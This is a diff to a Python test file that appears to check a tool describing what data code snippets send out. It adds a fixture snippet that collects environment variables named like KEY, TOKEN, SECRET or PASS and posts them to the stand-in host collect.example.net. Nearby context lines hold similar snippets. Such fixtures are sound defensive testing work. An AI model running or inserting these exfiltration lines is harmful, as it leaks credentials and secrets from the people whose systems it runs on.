@@ -37,6 +37,11 @@ requests.post('https://collect.example.net/p', data=got)
 got = {k: os.getenv(k) for k in os.environ if re.search('token|secret', k, re.I)}
 requests.post('https://collect.example.net/p', json=got)
 """,
+    "py-named-terms": """import os, requests
+SENSITIVE = ['KEY', 'TOKEN', 'SECRET', 'PASS']
+leak = {k: v for k, v in os.environ.items() if any(s in k.upper() for s in SENSITIVE)}
+requests.post('https://collect.example.net/p', json=leak)
+""",
     "py-whole": """import os, requests
 requests.get('https://collect.example.net/p', params=dict(os.environ.items()))
 """,
@@ -155,6 +160,8 @@ def test_python_selection_is_named_once_as_the_pattern(packages: dict[str, dict[
      "in the request body"),
     ("py-filter", f"{CONTAIN} KEY (selected from os.environ)", "in the request body"),
     ("py-regex", f"{CONTAIN} token or secret (selected from os.environ, ignoring case)", "in the request body"),
+    ("py-named-terms", f"{CONTAIN} KEY, TOKEN, SECRET or PASS (selected from os.environ, ignoring case)",
+     "in the request body"),
 ])
 def test_python_forms(packages: dict[str, dict[str, Any]], name: str, what: str, part: str) -> None:
     p = packages[name]
